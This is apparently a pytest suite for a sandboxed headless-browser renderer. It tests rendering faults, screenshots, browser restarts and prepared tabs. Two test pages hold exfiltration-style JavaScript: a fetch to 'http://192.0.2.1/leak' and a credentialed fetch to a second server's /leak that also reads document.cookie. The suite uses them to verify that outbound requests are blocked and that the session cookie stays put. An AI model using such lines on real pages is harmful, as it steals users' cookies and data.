"""The browser that checks versions: what it reports of pages that work, fail, stay blank, or try to reach out."""

from __future__ import annotations

import asyncio
import contextlib
import io
import os
import signal
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from pathlib import Path

import pytest
from PIL import Image
from playwright.async_api import Page

from vitrail.apps import renderer as module
from vitrail.apps.chromium import BROWSER_UID, NoBrowser, find_chromium
from vitrail.apps.renderer import Ahead, Renderer, Rendering

pytestmark = pytest.mark.browser

PASS = {"vitrail-check": "a-pass"}
APP = "<h1>Revenue</h1><svg width=300 height=200></svg>"
STATE = "window.__vitrail = {{state: 'ready', rendered: true, drawings: 1, errors: {errors}, queries: {queries}}}"
# As the check page's own program: done when the app was drawn and nothing is awaited, else never.
SETTLED = """window.__vitrailDrawn = new Promise((done) => setTimeout(() => {
  const { rendered, drawings, queries: { started, ok, failed } } = window.__vitrail
  if (rendered && started === ok + failed) done(drawings)
}, 50))
window.__vitrailSettled = window.__vitrailDrawn.then(() => undefined)"""
ANSWERED = "{started: 1, ok: 1, failed: 0, errors: []}"


def page(app: str = APP, *, queries: str = ANSWERED, errors: str = "[]", script: str = "") -> str:
    """A check page: its account in `window.__vitrail`, the app in an opaque frame."""
    state = STATE.format(errors=errors, queries=queries)
    frame = f"<iframe sandbox='allow-scripts' srcdoc=\"{app}\"></iframe>"
    return f"<!doctype html>{frame}<script>{state};{SETTLED};{script}</script>"


@asynccontextmanager
async def serving(pages: dict[str, str]) -> AsyncIterator[tuple[str, list[tuple[str, str]]]]:
    """A server on loopback; gives its origin and the (path, pass) of each request that came."""
    seen: list[tuple[str, str]] = []

    async def answer(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            head = (await reader.readuntil(b"\r\n\r\n")).decode()
        except asyncio.IncompleteReadError:  # somebody only looked whether there is a server
            writer.close()
            return
        path = head.split(" ")[1]
        sent = [line.partition(": ")[2] for line in head.split("\r\n") if line.lower().startswith("cookie")]
        seen.append((path, sent[0] if sent else ""))
        body = pages.get(path, "").encode()
        writer.write(b"HTTP/1.1 200 OK\r\ncontent-type: text/html; charset=utf-8\r\nconnection: close\r\n\r\n" + body)
        await writer.drain()
        writer.close()

    server = await asyncio.start_server(answer, "127.0.0.1", 0)
    try:
        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", seen
    finally:
        server.close()


@pytest.fixture
async def render() -> AsyncIterator[Callable[[str], Awaitable[Rendering]]]:
    browser = Renderer(None)

    async def one(html: str) -> Rendering:
        async with serving({"/render.html": html}) as (origin, _):
            return await browser.render(f"{origin}/render.html", cookies=PASS)

    yield one
    await browser.aclose()


async def test_what_each_kind_of_page_comes_to(
    render: Callable[[str], Awaitable[Rendering]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """One browser, many pages: a good one works, each fault is named."""
    monkeypatch.setattr(module, "SETTLE_S", 1.5)
    good = await render(page())
    assert good.works, good.findings
    assert good.queries_answered == 1
    assert good.screenshot.startswith(b"\xff\xd8")

    faults = {
        "blank": page("<p></p>"),
        "No query was answered": page(queries="{started: 0, ok: 0, failed: 0, errors: []}"),
        "no revenue here": page(queries="{started: 1, ok: 0, failed: 1, errors: [{title: 'no revenue here'}]}"),
        "it broke": page(errors="[{title: 'it broke', cause: 'really'}]"),
        "thrown late": page(script="setTimeout(() => { throw new Error('thrown late') })"),
        "on the console": page(script="console.error('on the console')"),
        "still unanswered": page(queries="{started: 2, ok: 1, failed: 0, errors: []}"),
        "had not drawn": page(script="window.__vitrail.rendered = false"),
        "not allowed": page(script="fetch('http://192.0.2.1/leak').catch(() => 0)"),
    }
    for words, html in faults.items():
        found = await render(html)
        assert any(words in finding for finding in found.findings), (words, found.findings)


async def test_the_picture_shows_what_was_drawn_last(
    render: Callable[[str], Awaitable[Rendering]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """An app that draws again while its picture is taken is pictured anew, and one that does not only once."""
    taken = module._picture
    pictures: list[bytes] = []

    async def while_it_changes(page: Page) -> bytes:
        pictures.append(await taken(page))
        await page.evaluate("window.change?.()")
        return pictures[-1]

    monkeypatch.setattr(module, "_picture", while_it_changes)
    red, blue = (
        f"<h1>Revenue by store</h1><style>body {{background: {colour}}}</style>" for colour in ("#f00", "#00f")
    )
    change = f"""window.__vitrailSettled = new Promise((done) => {{
      window.change = () => {{
        delete window.change
        const frame = document.querySelector('iframe')
        frame.onload = () => {{ window.__vitrail.drawings += 1; done() }}
        frame.srcdoc = `{blue}`
      }}
    }})"""
    changed = await render(page(red, script=change))
    assert changed.works, changed.findings
    assert [_colour(picture) for picture in pictures] == ["red", "blue"]
    assert _colour(changed.screenshot) == "blue"

    pictures.clear()
    steady = await render(page(red))
    assert len(pictures) == 1
    assert steady.screenshot is pictures[0]


async def test_an_error_while_the_picture_is_taken_is_found(
    render: Callable[[str], Awaitable[Rendering]], monkeypatch: pytest.MonkeyPatch
) -> None:
    taken = module._picture

    async def breaking(page: Page) -> bytes:
        picture = await taken(page)
        await page.evaluate("window.__vitrail.errors.push({title: 'it broke meanwhile'}), window.settle()")
        return picture

    monkeypatch.setattr(module, "_picture", breaking)
    found = await render(page(script="window.__vitrailSettled = new Promise((done) => { window.settle = done })"))
    assert found.findings == ("Error in the page: it broke meanwhile",)


async def test_findings_are_few_and_short(render: Callable[[str], Awaitable[Rendering]]) -> None:
    script = "for (let n = 0; n < 500; n++) console.error(n + 'x'.repeat(5000))"
    found = await render(page(script=script))
    assert len(found.findings) <= module.MAX_FINDINGS
    assert max(map(len, found.findings)) <= module.MAX_TEXT


async def test_the_pass_goes_to_the_server_and_nowhere_else() -> None:
    browser = Renderer(None)
    try:
        async with serving({}) as (elsewhere, leaked):
            leak = f"fetch('{elsewhere}/leak', {{credentials: 'include'}}).catch(() => 0); document.cookie"
            html = page(script=f"{leak} && console.error('scripts can read the pass')")
            async with serving({"/render.html": html}) as (origin, seen):
                found = await browser.render(f"{origin}/render.html", cookies=PASS)
            assert ("/render.html", "vitrail-check=a-pass") in seen
            assert not any("scripts can read" in finding for finding in found.findings)
            assert leaked == []
    finally:
        await browser.aclose()


async def test_a_browser_that_died_is_started_again() -> None:
    browser = Renderer(None)
    try:
        async with serving({"/render.html": page()}) as (origin, _):
            url = f"{origin}/render.html"
            assert (await browser.render(url, cookies={})).works
            for pid in _browser_processes(browser):
                with contextlib.suppress(ProcessLookupError):  # it went with its parent
                    os.kill(pid, signal.SIGKILL)
            while await _running(browser):
                await asyncio.sleep(0.02)
            assert (await browser.render(url, cookies={})).works
    finally:
        await browser.aclose()


@pytest.mark.skipif(os.geteuid() != 0, reason="only root gives the browser another user")
async def test_as_root_the_browser_has_a_user_of_its_own_and_its_sandbox() -> None:
    browser = Renderer(None)
    try:
        await browser.start()
        processes = _browser_processes(browser)
        assert processes
        for pid in processes:
            status = Path(f"/proc/{pid}/status").read_text()
            assert f"Uid:\t{BROWSER_UID}" in status
            assert b"--no-sandbox" not in Path(f"/proc/{pid}/cmdline").read_bytes()
    finally:
        await browser.aclose()
    async with asyncio.timeout(10):
        while any(map(_alive, processes)):
            await asyncio.sleep(0.05)


async def test_without_a_browser_the_cure_is_said(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    with pytest.raises(NoBrowser, match="no such file"):
        find_chromium(str(tmp_path / "nowhere"))
    monkeypatch.setenv("PATH", str(tmp_path))
    monkeypatch.setenv("PLAYWRIGHT_BROWSERS_PATH", str(tmp_path))
    with pytest.raises(NoBrowser) as missing:
        find_chromium(None)
    assert "apt-get install chromium" in missing.value.cure


def _colour(picture: bytes) -> str:
    """The colour of what is in the frame."""
    with Image.open(io.BytesIO(picture)) as image:
        red, _, blue = image.convert("RGB").getpixel((200, 120))  # type: ignore[misc]
    return "red" if red > blue else "blue"


def _browser_processes(browser: Renderer) -> list[int]:
    """The processes that carry this browser's profile folder in their command line."""
    program = browser._program
    if program is None:
        return []
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if str(program.folder).encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
    return found


async def _running(browser: Renderer) -> bool:
    return browser._browser is not None and browser._browser.is_connected()


def _alive(pid: int) -> bool:
    try:
        return "\nState:\tZ" not in Path(f"/proc/{pid}/status").read_text()
    except OSError:
        return False


async def test_a_prepared_tab_is_used_once_and_another_is_made_when_asked() -> None:
    browser = Renderer(None)
    ahead = Ahead(vendor=(("react", "/vendor/t/react-1.js"),))
    html = page(script="window.__vitrailAhead = async (a) => { await fetch(a.vendor[0].url) }")
    try:
        async with serving({"/render.html": html, "/vendor/t/react-1.js": "x"}) as (origin, seen):
            browser.prepare()
            assert browser._spare is None, "nobody has said what for"
            browser.ready_for(f"{origin}/render.html#app=1", ahead)
            browser.prepare()
            assert browser._spare is not None
            tab = await browser._spare
            assert [path for path, _ in seen] == ["/render.html", "/vendor/t/react-1.js"]
            assert {sent for _, sent in seen} == {""}, "a tab for nobody in particular has no pass"
            rendered = await browser.render(f"{origin}/render.html#app=2", cookies=PASS)
            assert rendered.works, rendered.findings
            assert tab is not None
            assert len(seen) == 2, "nothing was loaded again"
            assert browser._spare is None, "and it is used once"
    finally:
        await browser.aclose()
